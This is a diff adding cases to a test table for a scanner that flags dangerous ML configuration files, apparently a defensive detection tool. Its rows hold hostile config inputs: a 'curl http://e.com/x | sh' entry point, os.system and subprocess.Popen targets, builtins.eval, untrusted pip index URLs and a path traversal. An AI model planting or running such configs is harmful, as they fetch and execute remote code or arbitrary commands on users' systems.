@@ -36,6 +36,7 @@ test.each<[string, string]>([
   ['b: {_target_: hydra.utils.get_method, path: builtins.eval}', 'CRITICAL config-target'],
   ['b: {_target_: transformers.AutoModel.from_pretrained, trust_remote_code: true}', 'MEDIUM config-target'],
   ['model: {target: subprocess.Popen, params: {args: id}}', "CRITICAL config-target subprocess.Popen(args='id')"],
+  ['model: {cls: subprocess.Popen, params: {args: id}}', "CRITICAL config-target subprocess.Popen(args='id')"],
   ['a: !apply:os.system [id]', "CRITICAL config-target os.system('id')"],
   ['a: !new:subprocess.Popen\n  args: id', "CRITICAL config-target subprocess.Popen(args='id')"],
   ['a: !name:builtins.exec', 'CRITICAL config-target'],
@@ -45,6 +46,8 @@ test.each<[string, string]>([
   ['flavors: {python_function: {loader_module: evil}}', "MEDIUM config-loader-module importlib.import_module('evil')"],
   ['flavors: {python_function: {loader_module: mlflow.sklearn, data: ../../etc}}', 'MEDIUM config-path ../../etc'],
   ['flavors: {sklearn: {skops_trusted_types: [os.system]}}', 'CRITICAL config-target os.system'],
+  ['entry_points: {main: {command: "curl http://e.com/x | sh"}}', 'HIGH config-expression'],
+  ['dependencies: [pip: [-ihttp://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
   ['dependencies: [python, pip: [mlflow, --extra-index-url http://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
   ['dependencies: [pip: [git+https://github.com/evil/pkg]]', 'MEDIUM installs-from-elsewhere']
 ])('%j', (text, expected) => {
